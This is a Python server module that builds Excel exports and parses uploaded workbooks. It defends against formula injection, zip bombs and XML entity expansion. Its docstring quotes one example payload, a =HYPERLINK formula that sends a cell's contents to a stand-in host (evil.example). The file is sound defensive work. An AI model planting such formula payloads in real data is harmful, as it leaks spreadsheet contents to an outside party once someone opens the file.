"""Excel in and out, in one place: the export of a list as it is currently filtered, and the
reading of an uploaded workbook for an import.

Neither runs openpyxl on the event loop: a workbook is built or parsed in a worker thread, so a
big export or a hostile upload never stalls the other requests and sockets of the process.

Exports write every text cell as text. openpyxl turns a string that starts with "=" into a live
formula, so `=HYPERLINK("http://evil.example/?"&A1,"click")` typed as a goods name came back as a
clickable formula in every export. Now every str is written as a text cell, and neutralised as
the OWASP CSV-injection guidance says: a string starting with =, +, -, @, tab or CR gets one
leading apostrophe (`'=HYPERLINK(…)`), so it stays inert once the sheet is saved as CSV or pasted
elsewhere (a quotePrefix style, Excel's hidden apostrophe, would be lost there). This apostrophe
is part of the value, so Excel shows it. `read_rows` removes it again, and text that already
started with an apostrophe gets one more, so an exported file imports exactly as it was.
Characters that XML 1.0 cannot hold (control characters other than tab, LF and CR, e.g. a
stored "\\x08") are replaced with U+FFFD, which shows that something was there, instead of
failing the export with openpyxl's IllegalCharacterError. Numbers, dates and None are unchanged.

Imports read a workbook only after its zip directory has been checked (see `check_archive`), in a
thread, within `PARSE_SECONDS`, and at most `MAX_COLUMNS` wide, whatever the sheet claims.
"""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable, Iterable, Sequence
from decimal import Decimal
from functools import partial
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import anyio
from litestar import Response

from server.core.errors import BusinessError

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell

# openpyxl (5–6 MB) is imported by the first export or import of a process, in its worker thread,
# not by every worker at start

MAX_EXPORT_ROWS = 100_000
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
Sheet = tuple[str, Sequence[str], Iterable[Sequence]]  # title, headers, rows

# What an uploaded workbook may unpack to, checked on the zip's central directory before anything
# is inflated. zipfile never yields more than a member's declared size (and fails on a bad CRC),
# so these bound what openpyxl can be made to read. Measured: a full 50,000-row goods file as
# openpyxl writes it (inline strings, as our own export does) unpacks to 60 MB at a ratio of 14;
# Office XML compresses 5–20 times, the audit's bomb 425 times (0.31 MB → 132 MB).
MAX_MEMBERS = 1_000
MAX_UNPACKED_BYTES = 100_000_000  # every member together; one member may use it all
MAX_RATIO = 100  # unpacked / packed, for members over RATIO_FLOOR
RATIO_FLOOR = 1_000_000  # small members may compress absurdly well without costing anything
MAX_COLUMNS = 100  # columns read per row, whatever width the sheet's <dimension> claims
MAX_SHEET_ROW = 1_048_576  # Excel's last row: rows numbered beyond it are not read
PARSE_SECONDS = 60  # the parse gives up (checked every DEADLINE_EVERY rows) past this
DEADLINE_EVERY = 1_000
# A DTD is how XML expands entities ("billion laughs"); no spreadsheet application writes one.
# defusedxml is not installed, so openpyxl parses with the standard library's expat; a member
# with a DOCTYPE, in any encoding expat reads (ASCII-compatible ones or UTF-16), is refused.
DOCTYPE = tuple("<!DOCTYPE".encode(e) for e in ("ascii", "utf-16-le", "utf-16-be"))
SCAN_CHUNK = 1 << 20

# Two imports parse at a time in a process; more wait for their turn without holding a thread.
_READERS = anyio.CapacityLimiter(2)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
QUOTED = (*FORMULA_STARTS, QUOTE)  # text that gets the apostrophe
NOT_XML = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")  # openpyxl's ILLEGAL_CHARACTERS_RE


def yes_no(value: bool) -> str:
    """A flag as an export cell: 是 / 否."""
    return "是" if value else "否"


# --- export -------------------------------------------------------------------------------------


MONEY_FORMAT = "0.0000"


def safe_text(value: str) -> str:
    """Text as an export writes it: characters XML cannot hold replaced with U+FFFD, and a
    leading =, +, -, @, tab or CR neutralised with one apostrophe. Text that starts with an
    apostrophe gets one more, so that `read_rows`, which removes one, gives it back unchanged."""
    value = NOT_XML.sub("\ufffd", value)
    return QUOTE + value if value.startswith(QUOTED) else value


def _text_cell(ws, value: str, bold: bool = False) -> WriteOnlyCell:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(ws)
    cell._value = value[:32767]  # what openpyxl's own setter keeps; bypassed to fix the type
    cell.data_type = "s"
    if bold:
        cell.font = Font(bold=True)
    return cell


def _row(ws, row: Sequence) -> list:
    """openpyxl infers a str's type: a formula when it starts with "=", an error when it is one
    of ERROR_CODES ("#N/A"…), text otherwise. After `safe_text` no value starts with "=", and the
    error codes go as explicit text cells, so every str is written as text. The plain values
    avoid an explicit cell per string, which costs openpyxl an exception each (exports ~25%
    slower)."""
    from openpyxl.cell.cell import ERROR_CODES

    out = []
    for value in row:
        if isinstance(value, str):
            value = safe_text(value)
            if value in ERROR_CODES:
                value = _text_cell(ws, value)
        elif isinstance(value, Decimal):
            value = _money_cell(ws, value)
        out.append(value)
    return out


def _money_cell(ws, value: Decimal) -> WriteOnlyCell:
    """Money as a number Excel can sum, shown with its 4 places (0.0000)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.number_format = MONEY_FORMAT
    return cell


def workbook_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence], more: Sequence[Sheet] = ()) -> bytes:
    """Sheets, each a bold header row and its rows below (text as text, see the module's doc):
    `title`'s, then `more` (title, headers, rows) in order."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    for name, head, body in ((title, headers, rows), *more):
        ws = wb.create_sheet(NOT_XML.sub("\ufffd", name)[:31])
        ws.append([_text_cell(ws, safe_text(h), bold=True) for h in head])
        for row in body:
            ws.append(_row(ws, row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


async def download(filename: str, build: Callable[[], bytes]) -> Response:
    """The workbook `build()` writes, built in a worker thread, as a download."""
    body = await anyio.to_thread.run_sync(build)
    return Response(
        body,
        media_type=XLSX_MEDIA_TYPE,
        headers={"Content-Disposition": f"attachment; filename*=UTF-8''{quote(filename)}"},
    )


async def xlsx_response(filename: str, title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> Response:
    """A list as a one-sheet download (the rows, often a generator over query results, are
    gathered here first)."""
    return await download(filename, partial(workbook_bytes, title, list(headers), list(rows)))


# --- import -------------------------------------------------------------------------------------


def _invalid() -> BusinessError:
    return BusinessError("文件不是有效的 Excel（.xlsx）文件", code="invalid_file")


def _too_large(detail: str) -> BusinessError:
    return BusinessError(detail, code="file_too_large_unpacked")


def _timed_out(seconds: float) -> BusinessError:
    return BusinessError(f"文件内容过多，{seconds:g} 秒内未能读完，请拆分后再导入", code="import_timeout")


def _has_doctype(archive: zipfile.ZipFile, info: zipfile.ZipInfo) -> bool:
    keep = max(len(d) for d in DOCTYPE) - 1
    tail = b""
    with archive.open(info) as member:
        while chunk := member.read(SCAN_CHUNK):
            window = tail + chunk
            if any(d in window for d in DOCTYPE):
                return True
            tail = window[-keep:]
    return False


def check_archive(data: bytes) -> None:
    """Refuse, before anything is inflated for openpyxl, a file that is not a zip, or whose members
    are too many, unpack too large or compress absurdly well; then refuse XML with a DTD."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, ValueError, OSError):
        raise _invalid() from None
    with archive:
        members = archive.infolist()
        if len(members) > MAX_MEMBERS:
            raise _too_large(f"文件包含的部件过多（超过 {MAX_MEMBERS} 个），请另存为标准的 .xlsx 后再导入")
        limit = f"{MAX_UNPACKED_BYTES // 1_000_000} MB"
        total = 0
        for info in members:
            total += info.file_size
            if total > MAX_UNPACKED_BYTES:
                raise _too_large(f"文件解压后过大（超过 {limit}），请拆分后再导入")
            if info.file_size > RATIO_FLOOR and info.file_size > MAX_RATIO * max(info.compress_size, 1):
                raise _too_large(f"文件压缩比异常（解压后超过压缩前的 {MAX_RATIO} 倍），已拒绝导入")
        try:
            dtd = any(_has_doctype(archive, info) for info in members if not info.is_dir())
        except Exception:  # a bad CRC or deflate stream, an unknown compression, an encrypted member
            raise _invalid() from None
    if dtd:
        raise BusinessError("文件包含不支持的 XML 声明（DTD），请用 Excel 另存为 .xlsx 后再导入", code="invalid_file")


def _blank(values: tuple) -> bool:
    if values.count(None) == len(values):  # the common case, counted in C
        return True
    return all(v is None or (isinstance(v, str) and not v.strip()) for v in values)


def _unquote(value: Any) -> Any:
    """Undo `safe_text`'s apostrophe, so that an export imports as it was (a CR written into XML
    reads back as LF)."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith((*QUOTED, "\n")):
        return value[1:]
    return value


def parse_rows(data: bytes, max_rows: int, max_columns: int, seconds: float) -> list[tuple[int, tuple]]:
    """The non-blank rows of the first sheet as (Excel row number, values): row 1 (the header)
    and at most `max_rows` rows below it. Runs in a worker thread (see `read_rows`)."""
    deadline = time.monotonic() + seconds
    check_archive(data)
    from openpyxl import load_workbook

    try:
        wb = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception:  # zip, xml and openpyxl errors all mean "not a usable .xlsx"
        raise _invalid() from None
    try:
        try:
            ws = wb.worksheets[0]
        except IndexError:
            raise _invalid() from None
        rows: list[tuple[int, tuple]] = []
        below_header = 0
        cells = ws.iter_rows(min_row=1, max_row=MAX_SHEET_ROW, min_col=1, max_col=max_columns, values_only=True)
        for number, values in enumerate(cells, start=1):
            if number % DEADLINE_EVERY == 1 and time.monotonic() > deadline:  # row 1: after the load
                raise _timed_out(seconds)
            if _blank(values):
                continue
            if number > 1:
                below_header += 1
                if below_header > max_rows:
                    raise BusinessError(f"一次最多导入 {max_rows} 行", code="too_many")
            rows.append((number, tuple(_unquote(v) for v in values)))
        return rows
    except BusinessError:
        raise
    except Exception:  # a broken sheet inside a valid zip
        raise BusinessError("文件内容无法读取，请使用导入模板重新填写", code="invalid_file") from None
    finally:
        wb.close()


async def read_rows(
    data: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS, seconds: float = PARSE_SECONDS
) -> list[tuple[int, tuple]]:
    """`parse_rows` in a worker thread: the event loop never touches openpyxl.

    A thread cannot be killed, so the work itself is bounded instead: `check_archive` caps what
    can be inflated, the sheet is read `max_columns` wide and up to `max_rows` rows, and the parse
    checks its own deadline as it goes. (A process pool could be killed, but would cost a process
    start or a pool per worker, and the rows would cross a pipe; the bounds make it unneeded.)"""
    return await anyio.to_thread.run_sync(partial(parse_rows, data, max_rows, max_columns, seconds), limiter=_READERS)
